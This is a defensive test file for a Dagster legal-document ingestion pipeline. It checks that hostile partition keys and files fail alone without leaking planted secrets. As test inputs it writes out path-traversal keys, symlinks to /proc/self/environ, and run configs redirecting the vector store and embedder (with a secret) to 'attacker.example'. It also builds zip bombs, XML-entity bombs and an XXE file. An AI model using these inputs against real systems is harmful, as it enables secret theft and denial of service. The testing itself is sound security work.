"""The attacks of an untrusted UI user and of untrusted files, inside real Dagster runs on the real
embedded store: each bad partition fails alone with its reason, every other file of the run is
ingested, and a marker planted in the environment and in a file beside the data folder appears
nowhere (state folder, Dagster instance, events, metadata, points, CLI output)."""

from __future__ import annotations

import io
import json
import os
import time
from pathlib import Path

import dagster as dg
import pytest

from legal_rag_pipeline import cli, ingest
from legal_rag_pipeline.artifacts import RECORDS_FILE, FileArtifacts
from legal_rag_pipeline.automation import SENSOR_NAME
from legal_rag_pipeline.definitions import build_definitions
from legal_rag_pipeline.instance import get_instance
from legal_rag_pipeline.partitions import source_files
from legal_rag_pipeline.settings import load_settings
from legal_rag_pipeline_tests import hostile_files as hostile
from legal_rag_pipeline_tests.pipeline_env import PipelineEnv, make_env, sensor_tick

ENV_MARKER = "planted-env-marker-Zq81vXk"
FILE_MARKER = "planted-file-marker-Pw47nLc"
MARKERS = (ENV_MARKER, FILE_MARKER)
SECRET_LAW = f"LUẬT BÍ MẬT\nĐiều 1. Mật khẩu\nMật khẩu của hệ thống là {FILE_MARKER}.\n"


@pytest.fixture
def env(tmp_path, monkeypatch) -> PipelineEnv:
    env = make_env(tmp_path, monkeypatch)
    env.copy_sample()
    monkeypatch.setenv("LEGAL_RAG_PLANTED_SECRET", ENV_MARKER)
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "bi-mat.txt").write_text(SECRET_LAW, encoding="utf-8")
    return env


def sample_keys(env: PipelineEnv) -> list[str]:
    return sorted(p.name for p in env.data.iterdir() if p.is_file() and not p.is_symlink())


def run_partitions(keys: list[str], tags: dict[str, str] | None = None) -> tuple[dg.ExecuteInProcessResult, dict]:
    """What a UI user does: add the partitions by hand, then materialise them all in one run."""
    defs = build_definitions(load_settings())
    instance = get_instance()
    known = set(instance.get_dynamic_partitions(source_files.name))
    instance.add_dynamic_partitions(source_files.name, [k for k in keys if k not in known])
    ordered = list(instance.get_dynamic_partitions(source_files.name))
    run_tags = tags or {
        "dagster/asset_partition_range_start": ordered[0],
        "dagster/asset_partition_range_end": ordered[-1],
    }
    result = defs.resolve_job_def("ingest_job").execute_in_process(
        instance=instance, tags=run_tags, raise_on_error=False
    )
    return result, ingest.file_summaries(keys, Path(load_settings().state_dir), result.run_id)


def assert_markers_nowhere(env: PipelineEnv, *outputs: str) -> None:
    for root in (env.state, env.dagster_home):
        for path in root.rglob("*"):
            if path.is_file():
                data = path.read_bytes()
                for marker in MARKERS:
                    assert marker.encode() not in data, f"{marker} in {path}"
    instance = dg.DagsterInstance.get()
    for run in instance.get_runs():
        for entry in instance.all_logs(run.run_id):
            text = repr(entry) + repr(getattr(entry.dagster_event, "event_specific_data", None))
            for marker in MARKERS:
                assert marker not in text, f"{marker} in an event of run {run.run_id}"
    payloads = json.dumps(env.points(), ensure_ascii=False)
    for marker in MARKERS:
        assert marker not in payloads, f"{marker} in the collection"
        for out in outputs:
            assert marker not in out


def assert_failed(summaries: dict, expected: dict[str, str]) -> None:
    for key, reason in expected.items():
        summary = summaries[key]
        assert summary.status == "failed" and summary.failed_stage == "raw_documents", (key, summary)
        assert reason in summary.error, (key, summary.error)
        assert summary.fix, key


def test_partition_keys_added_in_the_ui_cannot_reach_outside_the_data_folder(env):
    outside = env.root / "outside"
    (env.data / "zero.txt").symlink_to("/dev/zero")
    (env.data / "environ.txt").symlink_to("/proc/self/environ")
    (env.data / "link.txt").symlink_to(outside / "bi-mat.txt")
    (env.data / "thu-muc").symlink_to(outside, target_is_directory=True)
    os.mkfifo(env.data / "pipe.txt")
    good = sample_keys(env)
    attacks = {
        "../outside/bi-mat.txt": "the partition key goes up out of the data folder ('..')",
        "a/../../outside/bi-mat.txt": "the partition key goes up out of the data folder ('..')",
        str(outside / "bi-mat.txt"): "the partition key is an absolute path, not a file inside the data folder",
        "link.txt": "it is a symbolic link leading outside the data folder, which is never followed",
        "thu-muc/bi-mat.txt": "it is a symbolic link leading outside the data folder, which is never followed",
        "zero.txt": "it is a symbolic link leading outside the data folder, which is never followed",
        "environ.txt": "it is a symbolic link leading outside the data folder, which is never followed",
        "pipe.txt": "it is a named pipe (FIFO), not a regular file",
    }
    started = time.monotonic()
    result, summaries = run_partitions(good + list(attacks))
    assert time.monotonic() - started < 120
    assert not result.success  # qdrant_collection names the failed files
    assert_failed(summaries, attacks)
    for key in good:
        assert summaries[key].status == "ok", summaries[key]
    sources = {p["source"] for p in env.points().values()}
    assert sources == set(good)

    # The run's failure (what the UI shows) names each file with its reason and fix, in one sentence each.
    failure = next(e for e in result.all_events if e.event_type_value == "STEP_FAILURE")
    description = failure.event_specific_data.user_failure_data.description
    assert f"{len(attacks)} of {len(good) + len(attacks)} files failed (the others were ingested)" in description
    assert "- ../outside/bi-mat.txt: the partition key goes up out of the data folder ('..'): only files inside DATA_DIR" in description

    # The CLI's next run: the scan skips the links and the pipe, drops the hand-made partitions.
    out = io.StringIO()
    assert cli.run_ingest(load_settings(), out=out) == 0, out.getvalue()
    assert "skipped link.txt: symbolic link to a location outside the data folder" in out.getvalue()
    assert "skipped pipe.txt: not a regular file" in out.getvalue()
    assert set(get_instance().get_dynamic_partitions(source_files.name)) == set(good)
    assert_markers_nowhere(env, out.getvalue(), description)


def test_a_link_swapped_in_between_the_sensor_tick_and_the_run_is_not_followed(env):
    """The sensor sees a regular file; before the run reads it, it becomes a link to a secret."""
    law = env.data / "luat-moi.txt"
    law.write_text("LUẬT MỚI\nĐiều 1. Phạm vi\nLuật này quy định thử.\n", encoding="utf-8")
    defs = build_definitions(load_settings())
    instance = get_instance()
    cursor, run_request = None, None
    for _ in range(3):
        result = sensor_tick(defs, instance, cursor)
        cursor = result.cursor
        if result.run_requests:
            (run_request,) = result.run_requests
            break
    assert run_request is not None
    assert "luat-moi.txt" in instance.get_dynamic_partitions(source_files.name)

    law.unlink()
    law.symlink_to(env.root / "outside" / "bi-mat.txt")  # the attacker's swap

    tags = {**run_request.tags, "dagster/sensor_name": SENSOR_NAME, "dagster/run_key": run_request.run_key}
    keys = list(instance.get_dynamic_partitions(source_files.name))
    result, summaries = run_partitions(keys, tags)
    assert not result.success
    assert_failed(summaries, {"luat-moi.txt": "it is a symbolic link leading outside the data folder, which is never followed"})
    others = [k for k in keys if k != "luat-moi.txt"]
    assert others and all(summaries[k].status == "ok" for k in others)
    assert_markers_nowhere(env)


def test_hostile_files_fail_alone_within_their_limits(env, monkeypatch):
    monkeypatch.setenv("READ_TIMEOUT_SECONDS", "3")
    outside = env.root / "outside" / "bi-mat.txt"
    good = sample_keys(env)
    hostile.xlsx_zip_bomb(env.data / "bom.xlsx")
    hostile.docx_zip_bomb(env.data / "bom.docx")
    hostile.docx_billion_laughs(env.data / "cuoi.docx")
    hostile.xlsx_external_entity(env.data / "xxe.xlsx", outside)
    hostile.pdf_pages(env.data / "muoi-nghin-trang.pdf", 10_000)
    hostile.csv_that_keeps_the_reader_busy(env.data / "ban.csv")
    attacks = {
        "bom.xlsx": "it would expand to 700.0 MB when unpacked, over the 512.0 MB limit (MAX_UNCOMPRESSED_BYTES): it looks like a zip bomb",
        "bom.docx": "expands 1,028 times when unpacked, over the 200:1 limit (MAX_COMPRESSION_RATIO): it looks like a zip bomb",
        "cuoi.docx": "its part 'word/document.xml' declares XML entities (an 'XML bomb', which expands to gigabytes when parsed)",
        "xxe.xlsx": "its part 'xl/worksheets/sheet1.xml' declares an external XML entity, a reference to a file or URL",
        "muoi-nghin-trang.pdf": "it has 10,000 pages, over the 2,000-page limit (MAX_PDF_PAGES)",
        "ban.csv": "reading it took longer than the 3-second limit (READ_TIMEOUT_SECONDS), so its reader was stopped",
    }
    started = time.monotonic()
    result, summaries = run_partitions(good + list(attacks))
    took = time.monotonic() - started
    assert not result.success
    assert_failed(summaries, attacks)
    for key in good:
        assert summaries[key].status == "ok", summaries[key]
    assert {p["source"] for p in env.points().values()} == set(good)
    assert took < 150, took  # the busy reader was stopped after 3 s; the bombs were never unpacked
    assert_markers_nowhere(env)


@pytest.mark.parametrize(
    "resource, config",
    [
        ("data_folder", {"data_dir": "/"}),  # read anything the code location can read
        ("data_folder", {"state_dir": "/tmp/elsewhere"}),  # write artifacts anywhere
        ("qdrant", {"url": "http://attacker.example:6333"}),  # the points and QDRANT_API_KEY to another host
        ("embedder", {"endpoint_url": "http://attacker.example", "endpoint_api_key": {"env": "LEGAL_RAG_PLANTED_SECRET"}}),
    ],
)
def test_the_launchpad_cannot_repoint_a_run(env, resource, config):
    """Run config is what a UI user types in the launchpad: resources are not part of it."""
    defs = build_definitions(load_settings())
    instance = get_instance()
    instance.add_dynamic_partitions(source_files.name, sample_keys(env))
    ordered = list(instance.get_dynamic_partitions(source_files.name))
    with pytest.raises(dg.DagsterInvalidConfigError, match=f'unexpected config entr.*root:resources:{resource}:config'):
        defs.resolve_job_def("ingest_job").execute_in_process(
            instance=instance,
            tags={"dagster/asset_partition_range_start": ordered[0], "dagster/asset_partition_range_end": ordered[-1]},
            run_config={"resources": {resource: {"config": config}}},
        )
    assert not env.state.exists() or not list(env.state.rglob("raw.jsonl"))  # nothing was read
    assert not (env.state / RECORDS_FILE).exists() or all(  # no fingerprint nor decoded text kept either
        FileArtifacts(env.state, key).document() is None and not FileArtifacts(env.state, key).has_raw()
        for key in sample_keys(env)
    )
